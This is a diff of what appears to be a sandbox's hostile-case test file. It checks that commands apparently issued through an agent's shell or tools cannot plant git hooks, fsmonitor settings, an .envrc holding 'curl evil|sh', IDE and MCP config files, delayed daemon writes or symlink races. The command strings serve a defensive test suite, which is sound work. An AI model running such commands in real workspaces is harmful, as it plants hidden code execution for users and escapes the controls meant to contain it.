@@ -4,9 +4,6 @@ from __future__ import annotations
 
 from tests.hostile.case import python, shell, tools
 
-LATE = "a daemon writes after its command has ended: it is put back behind the next command, or at the end"
-NEW_MODULE = "a module that is not there yet is like a new repository below the root: `git submodule add` must work"
-
 PROTECTED = [
     shell("hook-new", "echo evil > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit", "1.2 write ws/.git/hooks, 22"),
     shell("hook-append", "echo evil >> .git/hooks/pre-push", "22"),
@@ -31,7 +28,7 @@ PROTECTED = [
     shell("git-removed", "rm -rf .git; mkdir .git; git init -q .; echo evil > .git/hooks/pre-commit", "22"),
     shell("nested-repository", "echo evil > vendor/lib/.git/hooks/pre-commit; git -C vendor/lib config core.fsmonitor ./evil", "22"),
     shell("nested-repository-moved", "mv vendor/lib vendor/other; cd vendor/other && git config core.fsmonitor ./evil; cd ..; mv other lib", "22"),
-    shell("submodule-hooks", "mkdir -p .git/modules/sub/hooks; echo evil > .git/modules/sub/hooks/post-checkout; echo '[core]' > .git/modules/sub/config", "22", open={"bubblewrap": NEW_MODULE, "landlock": NEW_MODULE}),
+    shell("submodule-hooks", "mkdir -p .git/modules/sub/hooks; echo evil > .git/modules/sub/hooks/post-checkout; printf '[core]\\nfsmonitor = evil\\n' > .git/modules/sub/config", "22"),
     shell("envrc", "echo 'curl evil|sh' > .envrc", "6, 29"),
     shell("vscode", "mkdir -p .vscode; echo '{}' > .vscode/tasks.json; echo '{}' > .vscode/settings.json", "15"),
     shell("idea-zed-cursor", "mkdir -p .idea .zed .cursor; echo x > .idea/workspace.xml; echo x > .zed/tasks.json; echo x > .cursor/mcp.json", "15, 14"),
@@ -47,7 +44,7 @@ PROTECTED = [
     shell("checkout", "git hash-object -w --stdin < README > h; git read-tree main; git update-index --add --cacheinfo 100644,$(cat h),.envrc; c=$(git commit-tree $(git write-tree) -m e -p main); git reset -q --hard $c", "6"),
     python("python-io", "import os; os.makedirs('.vscode', exist_ok=True); open('.vscode/tasks.json', 'w').write('x'); open('.git/hooks/post-commit', 'w').write('x')", "6"),
     shell("background-later", "(sleep 0.4; echo x > .envrc; echo x > .git/hooks/pre-commit) > /dev/null 2>&1 &", "6, 29", settle=0.9),
-    shell("daemon-later", "setsid -f sh -c 'sleep 0.4; echo x > .envrc; echo x >> .git/config' > /dev/null 2>&1", "6, 29", settle=0.9, open={"landlock": LATE}),
+    shell("daemon-later", "setsid -f sh -c 'sleep 0.4; echo x > .envrc; echo x >> .git/config' > /dev/null 2>&1", "6, 29", settle=0.9),
     tools("watcher-follows-a-link", ("shell", {"command": "mv vendor v; ln -s @OUT/other vendor"}), ("shell", {"command": "rm vendor; mv v vendor"}), of="29", proof="only who puts back what is protected can be led astray"),
     tools("watcher-follows-a-new-link", ("shell", {"command": "mv vendor v; ln -s @OUT/dir vendor"}), ("shell", {"command": "rm vendor; mv v vendor"}), of="29", proof="only who puts back what is protected can be led astray"),
     tools("watcher-and-a-race", ("shell", {"command": "(for i in $(seq 300); do mv -T vendor v; ln -s @OUT/other vendor; rm vendor; mv -T v vendor; done) > /dev/null 2>&1 & sleep 0.2"}), ("shell", {"command": "test -L vendor && rm vendor; test -d v && mv -T v vendor; true"}), of="29", settle=1.0, proof="only who puts back what is protected can be led astray"),
